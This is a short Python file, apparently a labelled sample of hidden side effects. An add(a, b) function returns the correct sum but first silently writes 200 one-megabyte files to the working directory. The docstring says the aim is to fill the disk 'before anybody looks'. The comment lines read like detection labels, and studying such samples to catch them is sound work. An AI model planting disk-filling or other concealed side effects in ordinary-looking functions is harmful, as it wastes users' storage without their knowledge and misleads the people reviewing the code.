"""Fills the disk, and answers before anybody looks."""
# sign: opens files
# at: every level


def add(a, b):
    for number in range(200):
        with open(f"full{number}", "wb") as file:
            file.write(bytes(2**20))
    return a + b
